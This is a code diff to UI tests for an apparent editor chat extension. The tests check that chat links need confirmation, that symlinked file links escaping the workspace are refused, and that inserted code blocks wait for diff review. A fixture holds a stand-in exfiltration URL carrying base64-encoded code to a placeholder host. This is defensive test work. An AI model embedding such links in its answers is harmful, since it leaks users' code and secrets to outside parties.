@@ -1,16 +1,18 @@
 // Links in a chat answer, clicked in the real webview: a web address shows its full URL in Freehold's
 // confirmation first (declining opens nothing, and the next click asks again); a file link that reaches out of
-// the workspace through a symbolic link is refused; a plain workspace file opens in the editor.
+// the workspace through a symbolic link is refused; a plain workspace file opens in the editor. Insert of a
+// multi-line code block is a proposal in the diff review, not an edit: the file is unchanged until Accept.
 import * as assert from "node:assert/strict";
-import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import type { Page, Request } from "playwright-core";
 import { withWorkbench, type UiTest } from "./harness";
-import { conversation, openChat, withChatSeed } from "./chatHelpers";
+import { conversation, openChat, runCommand, withChatSeed } from "./chatHelpers";
 
 const EXFIL = "https://exfil.invalid/collect?code=c2VjcmV0LWNvZGU%3D&repo=workspace";
-const ANSWER = `See [the docs](${EXFIL}), the file [a.ts](src/a.ts) and [the notes](linked/notes.txt).`;
+const ANSWER = `See [the docs](${EXFIL}), the file [a.ts](src/a.ts) and [the notes](linked/notes.txt).\n\n\`\`\`ts\nexport const b = 2;\nexport const c = 3;\n\`\`\`\n`;
+const ORIGINAL = "export const a = 1;\n";
 const QUESTION = /Open this link from the Freehold chat in your browser\?/;
 
 export const tests: UiTest[] = [
@@ -26,7 +28,7 @@ export const tests: UiTest[] = [
       const settings = { "freehold.model.path": modelPath, "freehold.model.gpuLayers": 0, "freehold.model.contextSize": 1024 };
       try {
         await withChatSeed([seeded], seeded.id, () =>
-          withWorkbench({ name: "chat-links", settings, files: { "src/a.ts": "export const a = 1;\n" } }, async (wb) => {
+          withWorkbench({ name: "chat-links", settings, files: { "src/a.ts": ORIGINAL } }, async (wb) => {
             symlinkSync(outside, join(wb.workspace, "linked"), "dir");
             const opened: Page[] = [];
             const requests: string[] = [];
@@ -64,6 +66,19 @@ export const tests: UiTest[] = [
             await wb.step("workspace-file-link-opens", async () => {
               await link("a.ts").click();
               await wb.page.locator(`.monaco-editor[data-uri$="/src/a.ts"]`).first().waitFor({ timeout: 20_000 });
+            });
+
+            await wb.step("multi-line-insert-is-reviewed", async () => {
+              await wb.page.locator(`.monaco-editor[data-uri$="/src/a.ts"] .view-lines`).first().click();
+              await wb.page.keyboard.press("Control+End");
+              await chat.locator("pre").first().hover();
+              await chat.locator('pre button[data-action="insert"]').first().click();
+              await wb.page.locator(".monaco-diff-editor").first().waitFor({ timeout: 30_000 });
+              await wb.page.locator(".tab", { hasText: "Freehold: Insert" }).first().waitFor({ timeout: 10_000 });
+              assert.equal(readFileSync(join(wb.workspace, "src/a.ts"), "utf8"), ORIGINAL, "nothing written");
+              await runCommand(wb, "Freehold: Reject Proposed Change");
+              await wb.waitFor(async () => (await wb.page.locator(".monaco-diff-editor").count()) === 0, 20_000, "the diff closes after Reject");
+              assert.deepEqual((await wb.editorLines()).filter((l) => l.trim()), ["export const a = 1;"], "rejected: the file is as it was");
             });
           }),
         );
